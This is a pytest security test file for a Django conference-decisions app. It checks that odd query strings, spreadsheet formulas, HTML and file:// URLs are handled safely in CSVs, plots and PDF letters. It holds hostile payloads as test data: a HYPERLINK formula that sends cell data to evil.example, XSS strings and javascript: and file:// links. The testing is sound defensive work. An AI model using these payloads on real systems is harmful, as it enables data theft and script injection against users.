"""Hostile input on the decisions surfaces: odd and huge query strings (a message or a 400,
never a 500), spreadsheet formulas in titles (defused in every CSV), HTML in titles (escaped in
the SVG plots and pages), and markdown, HTML and file URLs in a meta-review summary (the letter
PDF renders, runs nothing and fetches nothing)."""

import csv
import io

import pytest
from django.urls import reverse
from pypdf import PdfReader

from decisions.letters.services import store_letter
from reviews.models import MetaReview
from tests.decisions import attack_world as W

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SCRIPT = '<script>alert("t")</script><img src=x onerror=alert(1)>'


@pytest.fixture
def world(conference, chair, conflicted_chair, author, outsider):
    return W.build(conference, chair, conflicted_chair, author, outsider)


def url(world, name, query="", **kwargs):
    return reverse(name, kwargs={"conference": world.conference.slug, **kwargs}) + query


ODD = [
    "?q=" + "a" * 20000,
    "?q=%00%ff",
    "?gap=nan",
    "?gap=inf",
    "?gap=1e309",
    "?spread=-1",
    "?sort=__class__",
    "?sort=-",
    "?cols=zzz&cols=number",
    "?page=-1",
    "?page=99999999999999999999999",
    "?tag=abc",
    "?track=999999999999999999999",
    "?decision=o999999",
    "?decision=o1&decision=pending",
    "?cutoff=nan",
    "?cutoff=inf",
    "?cutoff=-1e400",
    "?score=<svg>",
    "?position=abc",
    "?format=xml",
]


@pytest.mark.parametrize(
    "name",
    [
        "decisions:dashboard",
        "decisions:dashboard_csv",
        "decisions:plots",
        "decisions:threshold",
        "decisions:threshold_apply",
        "decisions:consistency",
        "decisions:meeting",
        "decisions:meeting_where",
        "decisions:letters",
        "decisions:camera_ready_overview",
        "decisions:camera_ready_export",
        "decisions:proceedings",
        "decisions:proceedings_export",
        "api-decisions-dashboard",
        "api-decision-letters",
        "api-proceedings-list",
    ],
)
def test_odd_query_strings_are_never_a_500(client, world, name):
    client.force_login(world.chair)
    for query in ODD:
        response = client.get(url(world, name, query))
        assert response.status_code in (200, 400, 404), (query, response.status_code)


@pytest.mark.parametrize(
    "data",
    [
        {"cutoff": "nan", "window": "1"},
        {"cutoff": "inf", "window": "1"},
        {"cutoff": "4", "window": "inf"},
        {"cutoff": "4", "window": "1e400"},
        {"cutoff": "1e400", "window": "nan"},
    ],
)
def test_odd_meeting_and_cutoff_numbers_are_a_message(client, world, data):
    client.force_login(world.chair)
    response = client.post(url(world, "decisions:meeting_start"), data, follow=True)
    assert response.status_code == 200
    response = client.post(
        url(world, "decisions:threshold_apply"), {**data, "digest": "x"}, follow=True
    )
    assert response.status_code in (200, 400)


def rows_of(response) -> list[list[str]]:
    text = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def test_formulas_in_titles_are_defused_in_every_csv(client, world):
    for paper in (world.x, world.y):
        paper.title = FORMULA
        paper.save(update_fields=["title"])
    world.release()
    client.force_login(world.chair)
    for name, query in [
        ("decisions:dashboard_csv", ""),
        ("decisions:camera_ready_export", ""),
        ("decisions:proceedings_export", "?format=csv"),
    ]:
        cells = [c for row in rows_of(client.get(url(world, name, query))) for c in row]
        assert not any(c[:1] in ("=", "+", "-", "@") and "HYPERLINK" in c for c in cells), name
        assert any("HYPERLINK" in c for c in cells) or name.endswith("proceedings_export"), name


def test_html_in_titles_is_escaped_in_plots_and_pages(client, world):
    world.y.title = SCRIPT
    world.y.save(update_fields=["title"])
    client.force_login(world.chair)
    for name, query in [
        ("decisions:plots", ""),
        ("decisions:plots", "?score=gap"),
        ("decisions:dashboard", ""),
        ("decisions:threshold", "?cutoff=3"),
        ("decisions:consistency", "?cutoff=3"),
        ("decisions:meeting", ""),
    ]:
        body = client.get(url(world, name, query)).content.decode()
        assert "<script>alert" not in body and "<img src=x" not in body, (name, query)


def test_a_hostile_meta_review_renders_in_the_letter_and_fetches_nothing(world, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRETFILE")
    MetaReview.objects.filter(submission=world.x).update(
        summary=(
            f"**Bold** {SCRIPT}\n\n![x](file://{secret})\n\n"
            f'<img src="file://{secret}"><iframe src="file://{secret}"></iframe>'
            f'<link rel="stylesheet" href="file://{secret}">\n\n[link](javascript:alert(1))'
        )
    )
    world.x.title = f"{SCRIPT} title"
    world.x.save(update_fields=["title"])
    world.release()
    letter = store_letter(world.x)
    with letter.file.open("rb") as handle:
        reader = PdfReader(io.BytesIO(handle.read()))
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "Bold" in text and "TOPSECRETFILE" not in text
    actions = [
        str(annot.get_object().get("/A", {}).get_object())
        for page in reader.pages
        for annot in (page.get("/Annots") or [])
    ]
    assert not [a for a in actions if "javascript" in a.lower() or "/JavaScript" in a]


def test_html_in_outcome_track_and_topic_names_is_escaped_in_the_plots(client, world):
    from decisions.models import Outcome

    Outcome.objects.filter(pk=world.outcomes["reject"].pk).update(label=SCRIPT)
    for i, track in enumerate(world.conference.tracks.all()):
        track.name = f"{SCRIPT}{i}"
        track.save(update_fields=["name"])
    for i, topic in enumerate(world.conference.topics.all()):
        topic.name = f"{SCRIPT}{i}"
        topic.save(update_fields=["name"])
    world.x.topics.add(*world.conference.topics.all()[:2])
    client.force_login(world.chair)
    for query in ("", "?score=gap", "?score=calibrated"):
        body = client.get(url(world, "decisions:plots", query)).content.decode()
        assert "<script>alert" not in body and "<img src=x" not in body, query
